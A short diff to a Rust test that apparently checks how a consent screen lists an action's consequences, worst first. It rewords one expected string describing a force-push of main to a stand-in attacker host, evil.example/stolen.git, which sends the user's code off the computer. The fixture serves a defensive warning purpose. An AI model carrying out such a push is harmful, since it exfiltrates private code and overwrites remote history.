@@ -89,7 +89,7 @@ fn first_screen_lists_all_consequences_worst_first() {
         ),
         (
             "push",
-            "force-push main to https://evil.example/stolen.git (your code leaves this computer; history there is overwritten)",
+            "force-push main to https://evil.example/stolen.git (your code leaves this computer; overwrites history on the remote)",
             &["requested as origin", "update git's records in ~/src/app (allowed already)"],
         ),
         (
